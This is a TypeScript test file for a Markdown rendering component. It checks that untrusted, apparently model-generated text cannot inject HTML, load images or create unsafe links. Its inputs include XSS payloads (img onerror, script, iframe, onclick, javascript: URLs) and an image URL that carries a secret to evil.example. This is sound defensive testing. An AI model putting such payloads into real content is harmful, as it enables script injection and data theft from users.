import { createInstance } from 'i18next';
import { renderToStaticMarkup } from 'react-dom/server';
import { I18nextProvider } from 'react-i18next';
import { describe, expect, it } from 'vitest';
import { Markdown } from './Markdown.tsx';

const words = createInstance();
await words.init({ lng: 'en', resources: { en: { app: { markdown: { image: 'image' } } } }, defaultNS: 'app' });
const html = (text: string): string =>
  renderToStaticMarkup(
    <I18nextProvider i18n={words}>
      <Markdown text={text} />
    </I18nextProvider>,
  );

describe('Markdown of hostile origin', () => {
  it('shows raw HTML as text and makes no element of it (catches script, frames and event handlers from a model)', () => {
    const out = html('before <img src=x onerror=alert(1)> after\n\n<script>alert(2)</script>\n\n<iframe src="https://evil.example"></iframe>\n\n- <b onclick="x()">item</b>');
    expect(out).not.toMatch(/<(img|script|iframe|b)[\s>]/);
    expect(out).toContain('&lt;script&gt;alert(2)&lt;/script&gt;');
    expect(out).toContain('&lt;img src=x onerror=alert(1)&gt;');
  });

  it('never fetches an image (catches a tracking pixel or a secret carried out in a URL)', () => {
    const out = html('![chart](https://evil.example/p.png?secret=1)\n\n![d](data:image/png;base64,AAAA)\n\n[![b](https://badge.example/x.svg)](https://ci.example)');
    expect(out).not.toContain('<img');
    expect(out).not.toContain('src=');
    expect(out).toContain('evil.example');
  });

  it('makes links of web addresses only, opened outside and telling their host (catches javascript: and disguised links)', () => {
    const out = html('[a](javascript:alert(1)) [b](https://evil.example/x) [https://good.example](https://evil.example) [c](#/settings) <https://ok.example>\n\nfoot[^1]\n\n[^1]: note');
    expect(out).not.toContain('javascript:');
    expect(out).not.toContain('href="#');
    expect(out.match(/<a /g)?.length).toBe(3);
    expect(out.match(/<a [^>]*target="_blank"[^>]*rel="noopener noreferrer"/g)?.length).toBe(3);
    expect(out.match(/\(evil\.example\)/g)?.length).toBe(2);
    expect(out).not.toContain('(ok.example)');
  });

  it('does not choke on a very long text (catches a page that hangs for seconds)', () => {
    const out = html('**word** '.repeat(20_000));
    expect(out).not.toContain('<strong>');
  });
});
